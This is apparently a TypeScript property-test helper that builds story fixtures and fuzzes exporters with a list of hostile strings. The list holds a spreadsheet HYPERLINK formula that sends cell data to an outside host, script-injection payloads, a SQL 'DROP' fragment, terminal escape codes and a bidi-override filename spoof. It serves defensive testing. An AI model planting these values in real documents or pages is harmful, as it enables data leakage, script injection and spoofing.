/**
 * A story as exporters are handed it, without a read model; and text that means harm to whatever reads it.
 */
import fc from 'fast-check';
import { resolveStory } from '../../events/resolve.js';
import type { EffectiveHappening } from '../../events/steps.js';
import { formatInstant } from '../../events/story-time.js';
import { wordsIn } from '../../events/words.js';
import type { HappeningsTold, Timed } from '../../src/exporters/told.js';
import { paceOf } from '../../src/replay/silence-map.js';
import { message, recorded } from './drafts.js';

export async function* each<T>(values: Iterable<T>): AsyncGenerator<T> {
  yield* values;
}

export async function whole(pieces: AsyncIterable<string>): Promise<string> {
  let text = '';
  for await (const piece of pieces) text += piece;
  return text;
}

/** How a replay of it runs. */
export interface Running {
  readonly rate: number;
  readonly idleMs?: number;
}

export function happeningsIn(drafts: readonly unknown[]): EffectiveHappening[] {
  return resolveStory(recorded(drafts)).flatMap((step) => (step.kind === 'happening' ? [step] : []));
}

/** `running`: the replay that gives the times; left out: none does. */
export function toldOf(drafts: readonly unknown[], more: Partial<HappeningsTold> = {}, running?: Running): HappeningsTold {
  const events = recorded(drafts);
  const happenings = happeningsIn(drafts);
  const described = events.find((event) => event.type === 'StoryDescribed')?.data;
  const placed = happenings.filter(({ key }) => Number.isFinite(key[0]));
  const [first, last] = [placed[0]?.key[0], placed.at(-1)?.key[0]];
  const zone = more.zone ?? described?.timeZone ?? 'UTC';
  let startMs = 0;
  let before = first ?? 0;
  const timed = happenings.map((happening): Timed => {
    const [instant] = happening.key;
    if (running === undefined || !Number.isFinite(instant)) return { happening };
    const { wallMs, shortened } = paceOf(instant - before, running.rate, running.idleMs ?? Infinity);
    before = instant;
    startMs += wallMs;
    return { happening, startMs, isShortened: shortened };
  });
  return {
    story: {
      id: 'a-story',
      title: described?.title ?? 'a-story',
      ...(described === undefined ? {} : { description: described.description }),
      participants: described?.participants ?? [],
      sources: described?.sources ?? [],
      doubts: [],
      revision: events.length - 1,
      withoutEffect: 0,
    },
    zone,
    words: wordsIn(zone),
    span: first === undefined || last === undefined ? undefined : { from: formatInstant(first), to: formatInstant(last) },
    happenings: each(timed),
    ...(running === undefined ? {} : { timing: { rate: running.rate, idleMs: running.idleMs ?? Infinity, raised: false } }),
    hasChanged: () => false,
    ...more,
  };
}

const HOSTILE = [
  '=HYPERLINK("http://example.org/?"&A1,"x")',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '  =1',
  '＝1',
  '"; DROP',
  '-->',
  '--->',
  '00:00:00.000 --> 00:10:00.000',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '</v><b>&amp;',
  '\u0000',
  '\u001b[31mred\u001b[0m\u0007',
  '\u009b2J',
  '\u202egnp.exe\u202c',
  '\u2066isolated',
  '\u200f',
  '😀👩‍👩‍👧',
  '\n\n\n',
  '\r',
  '\r\n\r\n',
  '\u2028',
  'NOTE x',
  'WEBVTT',
  'שלום',
  '你好世界'.repeat(30),
  'x'.repeat(300),
  ' ',
] as const;

/** Text made of what means harm, and of words between. */
const hostileText = fc
  .array(fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ unit: 'binary', maxLength: 6 }), fc.lorem({ maxCount: 5 })), {
    maxLength: 5,
  })
  .map((parts) => parts.join(''));
/** So much of a text at most, no character of it cut in two. */
const cut = (text: string, most: number) => [...text].slice(0, most / 2).join('');
/** What must not be empty, nor too long for one line. */
const hostileLine = hostileText.map((text) => cut(text, 1_900) || 'a');
/** Control characters and U+10FFFF are not for ids. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: these are what is left out
const hostileId = hostileLine.map((text) => cut(text.replace(/[\u0000-\u001f\u007f-\u009f\u{10ffff}]/gu, ''), 180));

/** A story that says hostile things wherever it may say anything. */
export const hostileStory = fc
  .array(fc.record({ id: hostileId, text: hostileText, line: hostileLine, minutes: fc.integer({ min: -1, max: 3_000 }) }), { minLength: 1, maxLength: 6 })
  .map((rows) => [
    {
      id: 'about',
      type: 'StoryDescribed',
      data: {
        title: rows[0]?.line ?? '',
        description: rows[0]?.text ?? '',
        timeZone: 'America/New_York',
        participants: [{ id: 'ann', name: rows.at(-1)?.line ?? '', aliases: [], kind: 'person' }],
        sources: [],
      },
    },
    ...rows.map(({ id, text, line, minutes }, i) =>
      message(
        `${id}${i}`,
        minutes < 0 ? null : formatInstant(Date.UTC(2020, 2, 1) + minutes * 60_000),
        {
          text,
          channel: cut(line, 200),
          subject: text,
          links: [line],
          paraphrase: text,
          requests: [{ text: line }],
        },
        { when: { stated: cut(text, 2_000) }, sources: [{ title: line }] },
      ),
    ),
  ]);
